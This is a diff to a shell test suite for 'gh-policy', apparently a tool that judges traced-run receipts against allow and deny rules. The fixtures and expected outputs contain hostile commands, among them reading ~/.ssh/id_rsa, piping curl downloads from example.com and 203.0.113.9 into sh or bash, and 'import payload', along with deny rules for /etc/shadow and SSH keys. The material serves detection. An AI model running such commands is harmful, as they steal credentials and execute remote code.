@@ -33,11 +33,23 @@ same() {
 	diff -u - <(printf '%s\n' "$output")
 }
 
-# judge RECEIPT [OPTIONS]: run gh-policy on r.rules, stderr kept apart
+# judge RECEIPT [OPTIONS]: run gh-policy on r.rules, stderr kept apart.
+# A text verdict with violations ends with the tally line: it must be
+# there, and is moved from $output to $tally.
 judge() {
 	local r=$1
 	shift
+	tally=
 	run --separate-stderr gh-policy "$@" r.rules "$F/$r"
+	if [ "$status" -eq 1 ] && [[ " $* " != *" -j "* && " $* " != *" --json "* &&
+		" $* " != *" -a "* && " $* " != *" -q "* ]]; then
+		tally=${lines[${#lines[@]} - 1]}
+		[[ "$tally" =~ ^[0-9]+\ violations?\ of\ [0-9]+\ rules?\;\ [0-9]+\ items?$ ]] ||
+			{ echo "no tally line: $tally"; return 1; }
+		output=${output%$'\n'*}
+		[ "${#lines[@]}" -gt 1 ] || output=
+		unset 'lines[${#lines[@]}-1]'
+	fi
 }
 
 # --- options and usage ---------------------------------------------------
@@ -45,7 +57,7 @@ judge() {
 @test "--help prints the usage on stdout and exits 0" {
 	run --separate-stderr gh-policy --help
 	[ "$status" -eq 0 ]
-	[ "${lines[0]}" = "usage: gh-policy [-j | -a | -q] [--stats] RULES [RECEIPT]" ]
+	[ "${lines[0]}" = "usage: gh-policy [-v | -j | -a | -q] [--allow-redacted] [--stats] RULES [RECEIPT]" ]
 	[ -z "$stderr" ]
 	run gh-policy -h
 	[ "$status" -eq 0 ]
@@ -100,6 +112,7 @@ judge() {
 	same <<'EOF'
 agent.rules:18: require complete: partial (lost 3 records: ring buffer full; stream ended without end record)
 agent.rules:95: limit duration_ms: not recorded
+2 violations of 2 rules; 13 items
 EOF
 }
 
@@ -116,7 +129,7 @@ EOF
 @test "the rules can come from stdin" {
 	run --separate-stderr gh-policy - "$F/sneaky.json" <<<'deny read /home/*/.ssh/**'
 	[ "$status" -eq 1 ]
-	[ "$output" = "<stdin>:1: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)" ]
+	[ "${lines[0]}" = "<stdin>:1: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)" ]
 }
 
 @test "--quiet prints nothing; the exit status is the verdict" {
@@ -126,6 +139,9 @@ EOF
 	run --separate-stderr gh-policy --quiet "$AGENT" "$F/clean.json"
 	[ "$status" -eq 0 ]
 	[ -z "$output" ]
+	# --stats counts the statements of the files (not the built-in ones)
+	run --separate-stderr gh-policy --stats -q "$AGENT" "$F/clean.json"
+	[[ "$stderr" == "gh-policy: stats: $(grep -cEv '^[[:space:]]*(#|$)' "$AGENT") rules, "* ]]
 }
 
 # --- JSON verdict and annotation --------------------------------------------
@@ -141,7 +157,8 @@ EOF
 @test "--json: messages are the text lines; a pass has no violations" {
 	cp "$AGENT" agent.rules
 	gh-policy -j agent.rules "$F/sneaky.json" > v.json || [ $? -eq 1 ]
-	jq -r '.violations[].message' v.json | cmp - "$F/sneaky.out"
+	jq -r '.violations[].message' v.json | cmp - <(head -n -1 "$F/sneaky.out")
+	[ "$(jq -r .tally.message v.json)" = "$(tail -n 1 "$F/sneaky.out")" ]
 	run gh-policy -j agent.rules "$F/clean.json"
 	[ "$status" -eq 0 ]
 	[ "$(jq -c '[.verdict, .failed, .violations]' <<<"$output")" = '["pass",false,[]]' ]
@@ -190,6 +207,89 @@ EOF
 	[ "$(jq -r .policy.verdict <<<"$output")" = pass ]
 }
 
+# --- redacted receipts -----------------------------------------------------------
+
+@test "redacted: a receipt gh-redact masked is refused, exit 2: judge before redacting" {
+	[ -x "$GH_BIN/gh-redact" ] || skip "bin/gh-redact is not built"
+	gh-redact -m '/home/*/.ssh/**' "$F/sneaky.json" > red.json
+	[ "$(jq -c .redactions red.json)" = '[{"count":9,"rule":"-m /home/*/.ssh/**"}]' ]
+	for opt in "" -j -a -q; do
+		run --separate-stderr gh-policy $opt "$AGENT" red.json
+		[ "$status" -eq 2 ]
+		[ -z "$output" ]
+		[ "$stderr" = "gh-policy: red.json: the receipt is redacted (9 values masked): judge a receipt before redacting it (gh-policy --annotate, then gh-redact), or give --allow-redacted to count masked items against every deny rule" ]
+	done
+	# masked values without a redactions record are found too
+	jq 'del(.redactions)' red.json > bare.json
+	run --separate-stderr gh-policy "$AGENT" bare.json
+	[ "$status" -eq 2 ]
+	[[ "$stderr" == "gh-policy: bare.json: the receipt is redacted (3 items masked): "* ]]
+	# the twin: a receipt gh-redact left unchanged is judged as usual
+	gh-redact --no-default-secrets -m '/nowhere/**' "$F/clean.json" > same.json
+	[ "$(jq -c .redactions same.json)" = '[]' ]
+	run --separate-stderr gh-policy "$AGENT" same.json
+	[ "$status" -eq 0 ]
+	[ -z "$stderr" ]
+}
+
+@test "redacted: --allow-redacted judges masked items by every rule that could match" {
+	[ -x "$GH_BIN/gh-redact" ] || skip "bin/gh-redact is not built"
+	gh-redact -m '/home/*/.ssh/**' "$F/sneaky.json" > red.json
+	rules <<'EOF'
+allow partial
+deny read /etc/shadow
+allow read /home/**
+deny read /home/*/.ssh/**
+deny read /var/secret/**
+allow read /**
+default deny read
+deny exec /usr/bin/cat "*id_rsa*"
+deny exec /usr/bin/curl "*id_rsa*"
+EOF
+	run --separate-stderr gh-policy --verbose --allow-redacted r.rules red.json
+	[ "$status" -eq 1 ]
+	# the masked path could be any path: every deny read rule could match
+	# it, and the allow rules in between cannot be shown to; cat's
+	# masked arguments could match line 8, never line 9 (not curl)
+	same <<'EOF'
+r.rules:2: deny read [REDACTED] by pid 4101 (cat [REDACTED])
+r.rules:4: deny read [REDACTED] by pid 4101 (cat [REDACTED])
+r.rules:5: deny read [REDACTED] by pid 4101 (cat [REDACTED])
+r.rules:7: default deny read [REDACTED] by pid 4101 (cat [REDACTED])
+r.rules:8: deny exec /usr/bin/cat by pid 4101 (cat [REDACTED])
+5 violations of 5 rules; 36 items
+EOF
+	# the twin: unredacted, the same rules see the real path, which line 3
+	# allows
+	run --separate-stderr gh-policy --verbose r.rules "$F/sneaky.json"
+	[ "$status" -eq 1 ]
+	same <<'EOF'
+r.rules:8: deny exec /usr/bin/cat by pid 4101 (cat /home/u/.ssh/id_rsa)
+1 violation of 1 rule; 36 items
+EOF
+	# a masked item is allowed by a rule that surely matches it whatever the mask
+	printf 'allow partial\nallow exec /usr/bin/cat\ndeny exec /usr/bin/cat "*id_rsa*"\n' > r.rules
+	run --separate-stderr gh-policy --allow-redacted r.rules red.json
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
+}
+
+@test "redacted: the verdict travels: --annotate, then gh-redact keeps policy" {
+	[ -x "$GH_BIN/gh-redact" ] || skip "bin/gh-redact is not built"
+	cp "$AGENT" agent.rules
+	gh-policy --annotate agent.rules "$F/sneaky.json" > judged.json || [ $? -eq 1 ]
+	gh-redact -m '/home/*/.ssh/**' judged.json > red.json
+	[ "$(jq -r .policy.verdict red.json)" = fail ]
+	[ "$(jq '.policy.violations | length' red.json)" = "$(jq '.policy.violations | length' judged.json)" ]
+	[ "$(jq -r .policy.rules_sha256 red.json)" = "$(sha256sum agent.rules | cut -d' ' -f1)" ]
+	# the secret's path is masked in the verdict too
+	! grep -q 'id_rsa' red.json
+	jq -e '.policy.violations[] | select(.item == "[REDACTED]")' red.json > /dev/null
+	# the twin: judging after redacting is refused
+	run --separate-stderr gh-policy agent.rules red.json
+	[ "$status" -eq 2 ]
+}
+
 # --- matching order and defaults ---------------------------------------------
 
 @test "the first matching rule decides" {
@@ -197,7 +297,7 @@ EOF
 allow write /tmp/**
 deny write /**
 EOF
-	judge sneaky.json
+	judge sneaky.json --verbose
 	[ "$status" -eq 1 ]
 	! grep -q '/tmp/k' <<<"$output"
 	grep -qx 'r.rules:2: deny write /dev/null by pid 4100 (sh -c cat ~/.ssh/id_rsa > /tmp/k; curl -fsSL https://example.com/i.sh | sh)' <<<"$output"
@@ -286,17 +386,43 @@ r.rules:2: deny chdir /home/u/project by pid 4100 (sh -c cat ~/.ssh/id_rsa > /tm
 EOF
 }
 
-@test "an item done by several processes gives one line per process" {
+@test "an item done by several processes: one line, their number and the first; --verbose: one line each" {
 	rules <<'EOF'
 deny read /etc/ld.so.cache
+deny read /home/u/.ssh/id_rsa
 EOF
-	judge sneaky.json
+	run --separate-stderr gh-policy r.rules "$F/sneaky.json"
+	[ "$status" -eq 1 ]
+	same <<'EOF'
+r.rules:1: deny read /etc/ld.so.cache by 4 processes, first pid 4101 (cat /home/u/.ssh/id_rsa)
+r.rules:2: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)
+2 violations of 2 rules; 36 items
+EOF
+	run --separate-stderr gh-policy -v r.rules "$F/sneaky.json"
+	[ "$status" -eq 1 ]
 	same <<'EOF'
 r.rules:1: deny read /etc/ld.so.cache by pid 4101 (cat /home/u/.ssh/id_rsa)
 r.rules:1: deny read /etc/ld.so.cache by pid 4102 (curl -fsSL https://example.com/i.sh)
 r.rules:1: deny read /etc/ld.so.cache by pid 4104 (rm -f build.log)
 r.rules:1: deny read /etc/ld.so.cache by pid 4105 (python3 -c import payload)
+r.rules:2: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)
+2 violations of 2 rules; 36 items
 EOF
+	# one rule, one item: singular words
+	echo 'deny read /home/u/.ssh/id_rsa' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/sneaky.json"
+	[ "${lines[1]}" = "1 violation of 1 rule; 36 items" ]
+	# --json carries both: every violation, the groups and the tally
+	printf 'deny read /etc/ld.so.cache\n' > r.rules
+	run --separate-stderr gh-policy -j r.rules "$F/sneaky.json"
+	[ "$status" -eq 1 ]
+	[ "$(jq -c '[(.violations | length), .groups, .tally]' <<<"$output")" = \
+	  '[4,[{"first":0,"message":"r.rules:1: deny read /etc/ld.so.cache by 4 processes, first pid 4101 (cat /home/u/.ssh/id_rsa)","processes":4}],{"items":36,"message":"1 violation of 1 rule; 36 items","rules":1,"violations":1}]' ]
+	# the twin: a pass prints nothing, not even a tally
+	printf 'deny read /nothing\n' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/sneaky.json"
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
 }
 
 # --- patterns ---------------------------------------------------------------
@@ -352,10 +478,7 @@ deny read /etc/ld.so
 EOF
 	judge sneaky.json
 	same <<'EOF'
-r.rules:2: deny read /usr/lib/x86_64-linux-gnu/libc.so.6 by pid 4101 (cat /home/u/.ssh/id_rsa)
-r.rules:2: deny read /usr/lib/x86_64-linux-gnu/libc.so.6 by pid 4102 (curl -fsSL https://example.com/i.sh)
-r.rules:2: deny read /usr/lib/x86_64-linux-gnu/libc.so.6 by pid 4104 (rm -f build.log)
-r.rules:2: deny read /usr/lib/x86_64-linux-gnu/libc.so.6 by pid 4105 (python3 -c import payload)
+r.rules:2: deny read /usr/lib/x86_64-linux-gnu/libc.so.6 by 4 processes, first pid 4101 (cat /home/u/.ssh/id_rsa)
 EOF
 }
 
@@ -472,7 +595,7 @@ EOF
 	rules <<<'deny connect 10.0.0.0/8:5432'
 	run gh-policy r.rules m.json
 	[ "$status" -eq 1 ]
-	[ "$output" = "r.rules:1: deny connect [::ffff:10.1.2.3]:5432 [proto=tcp result=refused] by pid 5201 (cc -c main.c -o main.o)" ]
+	[ "${lines[0]}" = "r.rules:1: deny connect [::ffff:10.1.2.3]:5432 [proto=tcp result=refused] by pid 5201 (cc -c main.c -o main.o)" ]
 }
 
 @test "connect: host names match only receipts that record them" {
@@ -483,7 +606,7 @@ EOF
 		"$F/sneaky.json" > h.json
 	run gh-policy r.rules h.json
 	[ "$status" -eq 1 ]
-	[ "$output" = "r.rules:1: deny connect 93.184.216.34:443 [proto=tcp] by pid 4102 (curl -fsSL https://example.com/i.sh)" ]
+	[ "${lines[0]}" = "r.rules:1: deny connect 93.184.216.34:443 [proto=tcp] by pid 4102 (curl -fsSL https://example.com/i.sh)" ]
 }
 
 @test "inbound: bind, listen and the inbound subject" {
@@ -534,8 +657,35 @@ r.rules:16: limit cpu_time_ms: 56 exceeds 55
 EOF
 }
 
+@test "limit: negative and non-integer values in the receipt are errors" {
+	printf 'limit duration_ms 100\n' > r.rules
+	jq '.timing.duration_ms = -5' "$F/clean.json" > x.json
+	run --separate-stderr gh-policy r.rules x.json
+	[ "$status" -eq 2 ]
+	[ -z "$output" ]
+	[ "$stderr" = "gh-policy: x.json: timing.duration_ms: expected a non-negative integer" ]
+	jq '.timing.duration_ms = 1.5' "$F/clean.json" > x.json
+	run --separate-stderr gh-policy r.rules x.json
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: x.json:1: timing.duration_ms: expected an integer" ]
+	printf 'limit attempts 100\n' > r.rules
+	jq '.network.attempts[0].count = -3' "$F/sneaky.json" > x.json
+	run --separate-stderr gh-policy r.rules x.json
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: x.json: network.attempts[0].count: expected a non-negative integer" ]
+	# the twins: 0 and a value within the limit pass
+	printf 'limit duration_ms 100\n' > r.rules
+	jq '.timing.duration_ms = 0' "$F/clean.json" > x.json
+	run --separate-stderr gh-policy r.rules x.json
+	[ "$status" -eq 0 ]
+	jq '.timing.duration_ms = 101' "$F/clean.json" > x.json
+	run --separate-stderr gh-policy r.rules x.json
+	[ "$status" -eq 1 ]
+}
+
 @test "limit: a value the receipt does not record is a violation" {
 	rules <<'EOF'
+allow partial
 limit duration_ms 100000
 limit exit_code 0
 limit max_rss_kb 1
@@ -543,9 +693,9 @@ limit bytes_sent 0
 EOF
 	judge partial.json
 	same <<'EOF'
-r.rules:1: limit duration_ms: not recorded
-r.rules:2: limit exit_code: not recorded
-r.rules:3: limit max_rss_kb: not recorded
+r.rules:2: limit duration_ms: not recorded
+r.rules:3: limit exit_code: not recorded
+r.rules:4: limit max_rss_kb: not recorded
 EOF
 }
 
@@ -558,7 +708,7 @@ EOF
 	[ "$output" = "r.rules:1: require complete: partial (lost 3 records: ring buffer full; stream ended without end record)" ]
 	jq 'del(.completeness)' "$F/clean.json" > none.json
 	run gh-policy r.rules none.json
-	[ "$output" = "r.rules:1: require complete: not recorded" ]
+	[ "${lines[0]}" = "r.rules:1: require complete: not recorded" ]
 }
 
 @test "require signed: present, by a key file or a fingerprint" {
@@ -626,10 +776,12 @@ EOF
 	run --separate-stderr gh-policy agent.rules "$F/v030.json"
 	[ "$status" -eq 1 ]
 	same <<'EOF'
+agent.rules: require audit (always): host
 agent.rules:22: deny read /root/.ssh/id_ed25519
 agent.rules:53: default deny write /etc/motd
 agent.rules:61: deny exec /usr/bin/bash by pid 300 (bash -c curl -s http://203.0.113.9/x | bash)
 agent.rules:86: default deny connect 203.0.113.9:80 [proto=tcp]
+5 violations of 5 rules; 8 items
 EOF
 }
 
@@ -714,21 +866,105 @@ badrule() {
 	badrule 'include a b' "expected end of line, got 'b'"
 }
 
-@test "bad rules: a second default for a subject names the first" {
-	printf 'default deny write\ndefault allow create,write\n' > r.rules
-	run --separate-stderr gh-policy --check r.rules
-	[ "$status" -eq 2 ]
-	[ "$stderr" = "gh-policy: r.rules:2: expected one default per subject, got a second default for write (the first is at r.rules:1)" ]
+@test "a later default replaces an earlier one, also after an include" {
+	cp "$AGENT" agent.rules
+	# agent.rules says "default deny write,delete" (line 53); a file that
+	# includes it can make that default looser ...
+	printf 'include agent.rules\ndefault allow write\n' > r.rules
+	judge sneaky.json
+	[ "$status" -eq 1 ]
+	! grep -q 'default deny write' <<<"$output"
+	grep -qx 'agent.rules:22: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)' <<<"$output"
+	# ... or stricter, for a subject agent.rules has no default for
+	printf 'include agent.rules\nallow read /usr/**\ndefault deny read\n' > r.rules
+	judge sneaky.json
+	grep -qx 'r.rules:3: default deny read /etc/ld.so.cache by 4 processes, first pid 4101 (cat /home/u/.ssh/id_rsa)' <<<"$output"
+	# the twin: without the later default, agent.rules' own decides
+	printf 'include agent.rules\n' > r.rules
+	judge sneaky.json
+	grep -qx 'agent.rules:53: default deny write /etc/hostname \[op=chown result=EPERM\] by pid 4105 (python3 -c import payload)' <<<"$output"
+	! grep -q 'default deny read' <<<"$output"
+	# a later default for one subject leaves the others of the earlier line
+	printf 'default deny write,delete\ndefault allow write\n' > r.rules
+	judge sneaky.json
+	[ "$status" -eq 1 ]
+	same <<'EOF'
+r.rules:1: default deny delete /home/u/project/a.txt [op=rename to=/home/u/project/b.txt] by pid 4105 (python3 -c import payload)
+r.rules:1: default deny delete /home/u/project/build.log by pid 4104 (rm -f build.log)
+r.rules:1: default deny delete /home/u/project/notes.md [op=rename to=/home/u/notes.md] by pid 4105 (python3 -c import payload)
+EOF
 }
 
-@test "bad rules: control bytes are shown escaped" {
-	printf 'deny read\x01 /x\n' > r.rules
+@test "bad rules: control bytes other than tab are errors with file:line" {
+	printf 'deny read /a\ndeny read\x01 /x\n' > r.rules
 	run --separate-stderr gh-policy --check r.rules
 	[ "$status" -eq 2 ]
-	[ "$stderr" = "gh-policy: r.rules:1: expected a subject (read, write, delete, create, truncate, chmod, chown, mkdir, link, symlink, rename, unlink, rmdir, chdir, exec, connect, send, inbound, bind, listen, accept), got 'read\\x01'" ]
+	[ "$stderr" = "gh-policy: r.rules:2: expected text, got the control byte \\x01 at column 10" ]
 	printf 'deny read /x\0y\n' > r.rules
 	run --separate-stderr gh-policy --check r.rules
 	[ "$stderr" = "gh-policy: r.rules:1: expected text, got a NUL byte" ]
+	# a line ending in CR CR LF: one CR is the line end, the other an error
+	printf 'deny read /a\r\ndeny read /home/u/.ssh/id_rsa\r\r\n' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/sneaky.json"
+	[ "$status" -eq 2 ]
+	[ -z "$output" ]
+	[ "$stderr" = "gh-policy: r.rules:2: expected text, got the control byte \\x0d at column 30" ]
+	# a vertical tab inside a pattern
+	printf 'deny read /home/u/.ssh/\vid_rsa\n' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: r.rules:1: expected text, got the control byte \\x0b at column 24" ]
+	printf 'deny read /x\x7f\n' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$stderr" = "gh-policy: r.rules:1: expected text, got the control byte \\x7f at column 13" ]
+	# the twin: tabs separate words, a single CR LF ends a line
+	printf 'deny\tread\t/home/u/.ssh/id_rsa\r\n' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/sneaky.json"
+	[ "$status" -eq 1 ]
+	[ "${lines[0]}" = "r.rules:1: deny read /home/u/.ssh/id_rsa by pid 4101 (cat /home/u/.ssh/id_rsa)" ]
+}
+
+@test "include: the number of rules files read is bounded, not exponential" {
+	# each level includes the next twice: 2^21 reads without the bound
+	for i in $(seq 0 20); do
+		printf 'include l%d.rules\ninclude l%d.rules\n' $((i + 1)) $((i + 1)) > l$i.rules
+	done
+	echo 'deny read /x' > l21.rules
+	run --separate-stderr timeout 10 gh-policy --check l0.rules
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: l19.rules:1: expected at most 256 rules files read in all (includes counted each time), got more" ]
+	# the twin: 7 levels (255 files read) are fine
+	echo 'deny read /x' > l7.rules
+	run --separate-stderr gh-policy --check l0.rules
+	[ "$status" -eq 0 ]
+	[ -z "$stderr" ]
+}
+
+@test "rules: at most 100000 rules in all" {
+	seq 1 100000 | sed 's|^|deny read /x/|' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 0 ]
+	echo 'deny read /y' >> r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: r.rules:100001: expected at most 100000 rules in all, got more" ]
+}
+
+@test "errors never quote a file that is not a rules file" {
+	printf 'machine example.com login u password hunter2\n' > netrc
+	printf 'deny read /x\ninclude netrc\n' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: netrc:1: expected allow, deny, default, limit, require or include, got a line that is none of them (not a rules file?)" ]
+	[[ "$stderr" != *hunter2* ]]
+	printf '# comment\n\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n' > key
+	run --separate-stderr gh-policy --check key
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: key:3: expected allow, deny, default, limit, require or include, got a line that is none of them (not a rules file?)" ]
+	# the twin: once a file has a statement, an unknown word is quoted
+	printf 'deny read /x\npermit read /y\n' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$stderr" = "gh-policy: r.rules:2: expected allow, deny, default, limit, require or include, got 'permit'" ]
 }
 
 @test "comments, quotes, blank lines and CRLF" {
@@ -803,7 +1039,7 @@ badreceipt() {
 	badreceipt "x.json:1: process_tree[0].pid: expected a process id (0 to 2147483647)"
 }
 
-@test "an empty object is not a receipt; a receipt with nothing in it passes" {
+@test "an empty object is not a receipt; a receipt with nothing in it never passes" {
 	echo '{}' > x.json
 	printf 'deny read /**\ndefault deny connect\n' > r.rules
 	run --separate-stderr gh-policy r.rules x.json
@@ -811,9 +1047,67 @@ badreceipt() {
 	[ "$stderr" = 'gh-policy: x.json:1: not a receipt: no "version" or "execution_id" member' ]
 	echo '{"version": "0.4.0"}' > x.json
 	run gh-policy r.rules x.json
+	[ "$status" -eq 1 ]
+	same <<'EOF2'
+r.rules: require audit (always): not recorded
+r.rules: require complete (default; 'allow partial' lifts it): not recorded
+2 violations of 2 rules; 0 items
+EOF2
+	# nothing in it to judge: with audit recorded and allow partial, a pass
+	echo '{"version": "0.4.0", "observation_mode": "ebpf"}' > x.json
+	printf 'allow partial\ndeny read /**\n' > r.rules
+	run gh-policy r.rules x.json
 	[ "$status" -eq 0 ]
 	[ -z "$output" ]
 }
+
+# --- fail closed ----------------------------------------------------------------
+
+@test "fail closed: a receipt of an untraced run never passes, whatever the rules" {
+	# unaudited.json: gh-trace run as an unprivileged user ran the command
+	# untraced (observation_mode none)
+	for rules in '' 'allow partial' 'allow read /**' 'default allow read'; do
+		printf '%s\n' "$rules" > r.rules
+		run --separate-stderr gh-policy r.rules "$F/unaudited.json"
+		[ "$status" -eq 1 ]
+		[ "${lines[0]}" = "r.rules: require audit (always): none (audit unavailable: not running as root (euid 65534))" ]
+	done
+	printf 'allow partial\n' > r.rules
+	run --separate-stderr gh-policy -j r.rules "$F/unaudited.json"
+	[ "$status" -eq 1 ]
+	[ "$(jq -c '.violations[] | [.file, .line, .rule, .action, .default, .found]' <<<"$output")" = \
+	  '["r.rules",0,"require audit","require",true,"none (audit unavailable: not running as root (euid 65534))"]' ]
+	# the twin: the same rules pass an audited receipt
+	run --separate-stderr gh-policy r.rules "$F/clean.json"
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
+}
+
+@test "fail closed: a partial receipt fails unless the rules say allow partial" {
+	printf 'deny read /x\n' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/partial.json"
+	[ "$status" -eq 1 ]
+	same <<'EOF2'
+r.rules: require complete (default; 'allow partial' lifts it): partial (lost 3 records: ring buffer full; stream ended without end record)
+1 violation of 1 rule; 13 items
+EOF2
+	printf 'allow partial\ndeny read /x\n' > r.rules
+	run --separate-stderr gh-policy r.rules "$F/partial.json"
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
+	# an explicit require complete replaces the default and still holds
+	printf 'include r.rules\nrequire complete\n' > s.rules
+	run --separate-stderr gh-policy s.rules "$F/partial.json"
+	[ "$status" -eq 1 ]
+	[ "${lines[0]}" = "s.rules:2: require complete: partial (lost 3 records: ring buffer full; stream ended without end record)" ]
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 0 ]
+	printf 'allow partial now\n' > r.rules
+	run --separate-stderr gh-policy --check r.rules
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: r.rules:1: expected end of line, got 'now'" ]
+}
+
 
 # Every JSONTestSuite n_ file: see tests/hard.bats, which feeds them to every filter.
 
@@ -849,6 +1143,31 @@ trace() {
 	[ -z "$output" ]
 }
 
+@test "traced: base-runtime.rules covers what a dynamically linked program reads" {
+	mkdir ws && cd ws
+	echo hello > in.txt
+	trace sh -c 'cat in.txt; sort in.txt; ls -l; id; date'
+	[ "$(jq -r .observation_mode r.json)" = ebpf ] || skip "audit unavailable here"
+	printf 'include %s/policies/base-runtime.rules\nallow read $CWD/**\ndefault deny read\n' "$GH_ROOT" > r.rules
+	run --separate-stderr gh-policy r.rules r.json
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ -z "$output" ]
+	# the twin: without the base, the loader's cache and libc are denied
+	printf 'allow read $CWD/**\ndefault deny read\n' > r.rules
+	run --separate-stderr gh-policy r.rules r.json
+	[ "$status" -eq 1 ]
+	grep -q '^r\.rules:2: default deny read /etc/ld\.so\.cache by [0-9]* processes, first pid ' <<<"$output"
+	grep -q '^r\.rules:2: default deny read /usr/lib/[a-z0-9_]*-linux-gnu/libc\.so\.6 by ' <<<"$output"
+	# and a read outside the base and the workspace is still caught
+	trace sh -c 'cat in.txt /etc/hostname'
+	printf 'include %s/policies/base-runtime.rules\nallow read $CWD/**\ndefault deny read\n' "$GH_ROOT" > r.rules
+	run --separate-stderr gh-policy r.rules r.json
+	[ "$status" -eq 1 ]
+	grep -qx 'r\.rules:3: default deny read /etc/hostname by pid [0-9]* (.*cat in\.txt /etc/hostname)' <<<"$output"
+	[ "${#lines[@]}" -eq 2 ]
+}
+
 @test "traced: reads of keys, writes outside the workspace and connects are caught" {
 	mkdir ws && cd ws
 	# non-blocking connects: to loopback (allowed) and to a documentation
@@ -873,7 +1192,7 @@ PY
 	! grep -q 'ok\.txt' <<<"$output"
 	! grep -q 'connect 127\.0\.0\.1' <<<"$output"
 	# the JSON verdict and the annotated receipt agree with the text
-	gh-policy -j agent.rules r.json | jq -r '.violations[].message' | diff - <(printf '%s\n' "$output")
+	gh-policy -j agent.rules r.json | jq -r '.violations[].message, .tally.message' | diff - <(printf '%s\n' "$output")
 	gh-policy -a agent.rules r.json | jq -e '.policy.verdict == "fail"'
 }
 
@@ -903,10 +1222,143 @@ PY
 	[ -z "$output" ]
 	run --separate-stderr gh-policy r.rules r.json
 	[ "$status" -eq 1 ]
-	[ "$output" = "r.rules:2: require signed $(jq -r .signature.key signed.json): no signature" ]
+	[ "${lines[0]}" = "r.rules:2: require signed $(jq -r .signature.key signed.json): no signature" ]
 	# the verdict goes in before signing, and the signature then holds
 	gh-policy -a r.rules r.json > judged.json || [ $? -eq 1 ]
 	gh-sign -S -s sk.pem judged.json > judged.signed.json
 	gh-sign -V -q -p pk.pem judged.signed.json
 	[ "$(jq -r .policy.verdict judged.signed.json)" = fail ]
+}
+
+# --- learning -------------------------------------------------------------------
+
+@test "--learn: refuses receipts it cannot learn from, and bad counts" {
+	run --separate-stderr gh-policy --learn "$F/unaudited.json"
+	[ "$status" -eq 2 ]
+	[ -z "$output" ]
+	[ "$stderr" = "gh-policy: $F/unaudited.json: audit was not active in this run: nothing to learn from" ]
+	run --separate-stderr gh-policy --learn "$F/clean.json" "$F/partial.json"
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: $F/partial.json: the receipt is partial: learn from complete runs only" ]
+	jq '.redactions = [{"rule": "-m /x", "count": 1}]' "$F/clean.json" > red.json
+	run --separate-stderr gh-policy --learn red.json
+	[ "$status" -eq 2 ]
+	[ "$stderr" = "gh-policy: red.json: the receipt is redacted: learn from receipts before redacting" ]
+	jq '.filesystem.accesses[0].path = "/home/[REDACTED]"' "$F/clean.json" > masked.json
+	run --separate-stderr gh-policy --learn "$F/clean.json" masked.json
+	[ "$status" -eq 2 ]
+	[ -z "$output" ]
+	[ "$stderr" = "gh-policy: masked.json: the receipt has masked values ([REDACTED], [HMAC:...]): learn from receipts before redacting" ]
+	run --separate-stderr gh-policy --learn
+	[ "$status" -eq 2 ]
+	[ "${stderr_lines[0]}" = "gh-policy: --learn: missing receipts" ]
+	run --separate-stderr gh-policy --learn --fold-files 0 "$F/clean.json"
+	[ "$status" -eq 2 ]
+	[ "${stderr_lines[0]}" = "gh-policy: --fold-files: expected a count from 1 to 1000000, got '0'" ]
+	run --separate-stderr gh-policy --learn -j "$F/clean.json"
+	[ "$status" -eq 2 ]
+	# the twin: a complete, audited receipt is learned from
+	run --separate-stderr gh-policy --learn "$F/clean.json"
+	[ "$status" -eq 0 ]
+	[ -z "$stderr" ]
+}
+
+@test "--learn: the fixtures pass what is learned from them; commented and deterministic" {
+	gh-policy --learn "$F/clean.json" "$F/sneaky.json" > l.rules
+	gh-policy --learn "$F/sneaky.json" "$F/clean.json" | cmp - l.rules
+	for r in clean sneaky; do
+		run --separate-stderr gh-policy l.rules "$F/$r.json"
+		[ "$status" -eq 0 ] || { echo "$r: $output"; false; }
+	done
+	# executables by path, peers by address, a final deny per kind
+	grep -qx 'allow exec /usr/bin/curl  *# 1 run, 1 entry' l.rules
+	grep -qx 'allow connect 93\.184\.216\.34:443 proto=tcp  *# 1 run, 1 entry' l.rules
+	grep -qx 'allow send 127\.0\.0\.53:53 proto=udp  *# 1 run, 2 entries' l.rules
+	grep -qx 'allow bind 0\.0\.0\.0:8080 proto=tcp  *# 1 run, 1 entry' l.rules
+	[ "$(grep '^default ' l.rules)" = "$(printf 'default deny %s\n' read write delete chdir exec connect inbound)" ]
+	# peers by name where the receipt has one
+	jq '(.network.attempts[] | select(.dst == "93.184.216.34:443")).host = "Example.COM"' \
+		"$F/sneaky.json" > h.json
+	gh-policy --learn h.json > h.rules
+	grep -qx 'allow connect example\.com:443 proto=tcp  *# 1 run, 1 entry' h.rules
